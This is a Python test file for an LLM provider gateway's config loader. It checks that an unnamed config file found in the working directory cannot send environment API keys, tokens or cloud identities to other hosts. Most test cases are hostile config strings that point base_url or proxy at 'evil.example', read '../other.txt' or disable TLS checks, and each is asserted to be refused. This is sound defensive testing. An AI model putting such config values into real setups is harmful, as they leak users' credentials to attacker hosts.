"""A file that was only found leads no secret of the environment to another host."""

from __future__ import annotations

import os
from collections.abc import Mapping
from pathlib import Path

import pytest
import trustme

from dragoman.config.load import Loaded, load
from dragoman.config.trust import trust, trusted
from dragoman.errors import ConfigError

ENVIRON = {
    "OPENAI_API_KEY": "sk-of-the-environment",
    "ANTHROPIC_API_KEY": "sk-ant-of-the-environment",
    "MISTRAL_API_KEY": "mistral-of-the-environment",
    "MY_KEY": "my-own-key-of-the-environment",
    "GITHUB_TOKEN": "ghp-of-the-environment",
    "NAME": "acme",
    "MY_URL": "https://proxy.example/v1",
}


@pytest.fixture
def here(tmp_path: Path) -> Path:
    folder = tmp_path / "repository"
    folder.mkdir()
    (folder / "key.txt").write_text("key-that-came-along")
    trustme.CA().cert_pem.write_to_path(folder / "ca.pem")
    (tmp_path / "other.txt").write_text("key-of-somebody-else")
    return folder


def environment(folder: Path, more: Mapping[str, str] | None = None) -> dict[str, str]:
    return ENVIRON | {"DRAGOMAN_HOME": str(folder.parent / "home")} | dict(more or {})


def found(folder: Path, text: str, more: Mapping[str, str] | None = None) -> Loaded:
    """What a file in the working directory makes, which nobody has named."""
    (folder / "dragoman.yaml").write_text(text)
    return load(None, environment(folder, more), cwd=folder)


OPENAI_ELSEWHERE = 'providers: {openai: {base_url: "https://evil.example"}}'


@pytest.mark.parametrize(
    ("text", "secret", "where"),
    [
        (OPENAI_ELSEWHERE, "OPENAI_API_KEY", "https://evil.example"),
        (
            'providers: {openai: {base_url: "http://api.openai.com"}}',
            "OPENAI_API_KEY",
            "http://api.openai.com",
        ),
        (
            'providers: {x: {base_url: "https://evil.example", keys: ["${ANTHROPIC_API_KEY}"]}}',
            "ANTHROPIC_API_KEY",
            "https://evil.example",
        ),
        (
            'providers: {x: {catalog: openai, base_url: "https://e.example:444", keys: "${MY_KEY}"}}',
            "MY_KEY",
            "https://e.example:444",
        ),
        ('providers: {groq: {keys: ["${OPENAI_API_KEY}"]}}', "OPENAI_API_KEY", "https://api.groq.com"),
        (
            'providers: {x: {base_url: "https://evil.example", keys: [], headers: {x-a: "a ${NAME}"}}}',
            "NAME",
            "https://evil.example",
        ),
        (
            'providers: {x: {base_url: "https://evil.example", keys: [], body: {a: ["${GITHUB_TOKEN}"]}}}',
            "GITHUB_TOKEN",
            "https://evil.example",
        ),
        (
            'providers: {groq: {keys: literal-key-1, body: {user: "${GITHUB_TOKEN}"}}}',
            "GITHUB_TOKEN",
            "https://api.groq.com",
        ),
        (
            'providers: {x: {base_url: "https://evil.example/${GITHUB_TOKEN}", keys: []}}',
            "GITHUB_TOKEN",
            "the host of this base_url",
        ),
        (
            'providers: {x: {base_url: "https://evil.example", keys: {file: ../other.txt}}}',
            "other.txt",
            "https://evil.example",
        ),
        (
            'providers: {bedrock: {base_url: "https://e.example", region: eu west, keys: "${MY_KEY}"}}',
            "MY_KEY",
            "https://e.example",
        ),
        (
            "providers: {mistral: {verify_tls: false}}",
            "MISTRAL_API_KEY",
            "https://api.mistral.ai, without verifying its certificate",
        ),
        (
            "providers: {mistral: {ca_file: ca.pem}}",
            "MISTRAL_API_KEY",
            "https://api.mistral.ai, without verifying its certificate",
        ),
        (
            'aliases: {a: {route: openai/x, system_prompt: "${GITHUB_TOKEN}"}}',
            "GITHUB_TOKEN",
            "every provider that the request may reach",
        ),
        (
            'models: {a: {use: openai/x, headers: {x-a: "${GITHUB_TOKEN}"}}}',
            "GITHUB_TOKEN",
            "every provider that the request may reach",
        ),
    ],
)
def test_it_leads_no_secret_elsewhere(here: Path, text: str, secret: str, where: str) -> None:
    with pytest.raises(ConfigError) as refused:
        found(here, text)
    (problem,) = refused.value.problems
    assert problem.message.endswith(f"{secret} to {where}")
    assert (problem.file, problem.line) == (str(here / "dragoman.yaml"), 1)
    assert "dragoman config trust" in str(problem.hint)
    assert not any(value in str(problem) for name, value in ENVIRON.items() if name != "NAME")


@pytest.mark.parametrize(
    "text",
    [
        "providers: {openai: {timeouts: {idle: 1m}}}",
        'providers: {openai: {base_url: "https://api.openai.com/v1"}}',
        'providers: {openai: {keys: ["${OPENAI_API_KEY}"]}}',
        'providers: {groq: {keys: ["${MY_KEY}"]}}',
        'providers: {mine: {catalog: anthropic, keys: ["${ANTHROPIC_API_KEY}"]}}',
        'providers: {local-one: {base_url: "http://localhost:1234", keys: ["${MY_KEY}"]}}',
        'providers: {x: {base_url: "https://any.example", keys: [a-literal-key-1]}}',
        'providers: {x: {base_url: "https://any.example", keys: {file: key.txt}}}',
        'providers: {x: {base_url: "https://${NAME}.example", keys: [a-literal-key-1]}}',
        'providers: {x: {base_url: "${MY_URL}", keys: ["${MY_KEY}"]}}',
        'providers: {openai: {enabled: false, base_url: "https://evil.example"}}',
        'models: {a: "openai/${NAME}"}',
        'auth: {keys: ["${GITHUB_TOKEN}"]}',
    ],
)
def test_what_belongs_where_it_goes_needs_no_trust(here: Path, text: str) -> None:
    assert found(here, text).leads == ()


def test_the_environment_itself_may_lead_its_keys(here: Path) -> None:
    more = {"OPENAI_BASE_URL": "https://proxy.example"}
    assert found(here, "providers: {openai: {timeouts: {idle: 1m}}}", more).leads == ()
    with pytest.raises(ConfigError):
        found(here, 'providers: {openai: {keys: "${ANTHROPIC_API_KEY}"}}', more | {"OPENAI_API_KEY": ""})


@pytest.mark.parametrize(
    ("text", "base", "secret", "where"),
    [
        (
            "providers: {openai: {proxy: 'http://evil.example'}}",
            "http://inside.example",
            "OPENAI_API_KEY",
            "http://inside.example, through a proxy that the file sets",
        ),
        (
            "providers: {openai: {proxy: 'http://evil.example', verify_tls: false}}",
            "https://inside.example",
            "OPENAI_API_KEY",
            "https://inside.example, without verifying its certificate",
        ),
        (
            'providers: {openai: {base_url: "${MY_URL}", keys: "${MY_KEY}", ca_file: ca.pem}}',
            "",
            "MY_KEY",
            "https://proxy.example, without verifying its certificate",
        ),
        (
            'providers: {x: {base_url: "${MY_URL}", keys: {file: ../other.txt}, verify_tls: false}}',
            "",
            "other.txt",
            "https://proxy.example, without verifying its certificate",
        ),
    ],
)
def test_but_not_where_the_file_weakens_the_proof_of_the_host(
    here: Path, text: str, base: str, secret: str, where: str
) -> None:
    with pytest.raises(ConfigError) as refused:
        found(here, text, {"OPENAI_BASE_URL": base})
    (problem,) = refused.value.problems
    assert problem.message.endswith(f"{secret} to {where}")


def test_a_file_that_is_named_may(here: Path) -> None:
    file = here / "dragoman.yaml"
    file.write_text(OPENAI_ELSEWHERE)
    assert [lead.pair for lead in load(file, environment(here)).leads] == [
        "OPENAI_API_KEY https://evil.example"
    ]
    assert load(None, environment(here, {"DRAGOMAN_CONFIG": str(file)}), cwd=here.parent).leads


def test_so_may_the_one_in_dragomans_own_folder(here: Path) -> None:
    home = here.parent / "home"
    home.mkdir()
    (home / "dragoman.yaml").write_text(OPENAI_ELSEWHERE)
    assert load(None, environment(here), cwd=here).leads
    assert load(None, environment(here), cwd=home).leads


def test_trust_is_kept_for_a_secret_and_a_host(here: Path) -> None:
    home = here.parent / "home"
    trust(home, ["OPENAI_API_KEY https://evil.example"])
    trust(home, ["MY_KEY https://mine.example"])
    assert trusted(home) == {"OPENAI_API_KEY https://evil.example", "MY_KEY https://mine.example"}
    assert (home / "trusted").stat().st_mode & 0o077 == 0
    assert found(here, OPENAI_ELSEWHERE + "\nstrict: true").leads
    with pytest.raises(ConfigError):
        found(here, OPENAI_ELSEWHERE.replace("evil", "other"))


@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="Windows has no such users")
def test_a_secrets_file_that_everybody_may_read_is_doubted(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = "auth: {keys: {file: key.txt}}"
    file = here / "key.txt"
    file.chmod(0o644)
    monkeypatch.setattr("os.geteuid", lambda: file.stat().st_uid + 1)
    assert [one for one in found(here, text).warnings if one.path] == []  # a container's runtime mounts it so
    if file.stat().st_uid == 0:  # the tests are run by root
        os.chown(file, 12345, -1)
    monkeypatch.setattr("os.geteuid", lambda: file.stat().st_uid)
    (warning,) = found(here, text).warnings
    assert (warning.path, warning.line) == ("auth.keys", 1)
    assert "key.txt" in str(warning.hint)
    file.chmod(0o600)
    assert found(here, text).warnings == ()


def test_a_file_that_everybody_may_write_is_doubted(here: Path) -> None:
    assert found(here, "strict: true").warnings == ()
    (here / "dragoman.yaml").chmod(0o666)
    (warning,) = load(None, environment(here), cwd=here).warnings
    assert "every user" in warning.message
    assert "chmod o-w" in str(warning.hint)


DESCRIBED = "credential: {kind: google, file: key.txt}}}"
OTHERS_HOST = "providers: {vertex: {project: p, base_url: 'https://evil.example', credential: google}}"


@pytest.mark.parametrize(
    ("text", "where"),
    [
        (OTHERS_HOST, "https://evil.example"),
        (
            "providers: {vertex: {project: p, base_url: 'http://127.0.0.1:1', " + DESCRIBED,
            "http://127.0.0.1:1",
        ),
        (
            "providers: {azure: {base_url: 'https://evil.example', credential: entra}}",
            "https://evil.example",
        ),
        (
            "providers: {bedrock: {base_url: 'https://evil.example', region: eu-west-1, credential: aws}}",
            "https://evil.example",
        ),
    ],
)
def test_no_identity_of_the_machine_goes_where_only_the_file_says(here: Path, text: str, where: str) -> None:
    with pytest.raises(ConfigError) as refused:
        found(here, text)
    assert any("-identity to " in str(one) and where in str(one) for one in refused.value.problems)


def test_an_identity_may_go_to_its_own_cloud(here: Path) -> None:
    text = "providers: {vertex: {project: p, region: eu}, bedrock: {region: eu-west-1, credential: aws}}"
    assert set(found(here, text).providers) >= {"vertex", "bedrock"}
